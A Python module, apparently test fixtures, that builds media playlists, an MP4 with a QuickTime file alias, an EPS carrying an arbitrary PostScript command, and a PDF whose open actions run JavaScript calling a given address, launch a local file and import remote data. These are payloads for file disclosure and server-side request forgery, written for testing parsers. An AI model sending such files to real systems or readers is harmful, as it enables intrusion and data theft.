"""Files that make a careless reader open other files, call an address or start a program."""

import struct
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path

import pikepdf

WITHIN = (b"moov", b"trak", b"mdia", b"minf", b"dinf")  # MP4 boxes that hold boxes


def playlists(file: Path, address: str) -> dict[str, str]:
    """Return texts that name `file` and something at `address`, by their kind."""
    hls = "#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:5.0,\n{}\n#EXT-X-ENDLIST\n"
    dash = (
        '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT5S"'
        ' profiles="urn:mpeg:dash:profile:isoff-main:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation'
        ' id="1" bandwidth="1"><BaseURL>{}</BaseURL></Representation></AdaptationSet></Period></MPD>'
    )
    host, port = address.split(":")
    return {
        "hls of a file": hls.format(f"file://{file}"),
        "hls of an address": hls.format(f"http://{address}/a.ts"),
        "hls of a protocol in a protocol": hls.format(f"concat:http://{address}/a|{file}"),
        "hls with a key": hls.format("a.ts").replace(
            "#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="http://{address}/k"\n#EXTINF'
        ),
        "dash of a file": dash.format(f"file://{file}"),
        "dash of an address": dash.format(f"http://{address}/a.mp4"),
        "ffconcat of a file": f"ffconcat version 1.0\nfile '{file}'\n",
        "ffconcat of an address": f"ffconcat version 1.0\nfile 'http://{address}/a.mp4'\n",
        "sdp": f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=video {port} RTP/AVP 96\n",
        "asx": f'<asx version="3.0"><entry><ref href="http://{address}/a"/></entry></asx>',
        "ram": f"rtsp://{address}/a.rm\n",
        "link to a shared folder": f"[InternetShortcut]\nURL=http://{address}/\n",
    }


def referring(film: bytes, file: Path) -> bytes:
    """Return the MP4 `film`, its index at the end, as one whose pictures lie in `file` (QuickTime's alias)."""
    made = b""
    for kind, body in _boxes(film):
        if kind == b"dref":
            body = bytes(4) + struct.pack(">I", 1) + _alias(file)
        elif kind in WITHIN:
            body = referring(body, file)
        made += _box(kind, body)
    return made


def _boxes(data: bytes) -> Iterator[tuple[bytes, bytes]]:
    while data:
        size, kind = struct.unpack_from(">I4s", data)
        yield kind, data[8:size]
        data = data[size:]


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(body), kind) + body


def _alias(file: Path) -> bytes:
    name = b"/" * (len(bytes(file)) % 2) + bytes(file)  # of an odd length it would end in a slash
    volume, short, levels = b"\x01v" + bytes(26), b"\x01f" + bytes(62), struct.pack(">hh", -1, -1)
    whole = struct.pack(">HH", 2, len(name)) + name + struct.pack(">hH", -1, 0)
    return _box(b"alis", bytes(14) + volume + bytes(12) + short + bytes(16) + levels + bytes(16) + whole)


def postscript(command: str = "showpage") -> bytes:
    """Return an EPS of 100 by 100 points: a program, which only another program can draw."""
    return f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n%%EndComments\n{command}\n%%EOF\n".encode()


def pdf(target: Path, file: Path, address: str) -> Path:
    """Write a PDF of one page that asks its reader to run scripts, call `address` and read `file`, and return it."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(200, 100))
    name = pikepdf.Name
    outside = document.make_stream(b"", Type=name.XObject, Subtype=name.Image, Width=8, Height=8, BitsPerComponent=8)
    outside.ColorSpace, outside.F = name.DeviceGray, pikepdf.String(str(file))
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=outside))
    page.Contents = document.make_stream(b"q 100 0 0 50 20 20 cm /Im0 Do Q")
    script = f"app.launchURL('http://{address}/', true); this.submitForm('http://{address}/form');"
    actions = [
        pikepdf.Dictionary(S=name.JavaScript, JS=pikepdf.String(script)),
        pikepdf.Dictionary(S=name.URI, URI=pikepdf.String(f"http://{address}/")),
        pikepdf.Dictionary(S=name.Launch, F=pikepdf.String(str(file))),
        pikepdf.Dictionary(S=name.GoToR, F=pikepdf.String(str(file)), D=pikepdf.Array([0])),
        pikepdf.Dictionary(S=name.ImportData, F=pikepdf.String(f"http://{address}/data.fdf")),
    ]
    for action, following in pairwise(actions):
        action.Next = following
    document.Root.OpenAction = actions[0]
    page.AA = pikepdf.Dictionary(O=actions[0])
    document.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([]), XFA=pikepdf.String("<x/>"), NeedAppearances=True
    )
    document.attachments["run.sh"] = b"#!/bin/sh\nexit 1\n"
    document.save(target)
    return target
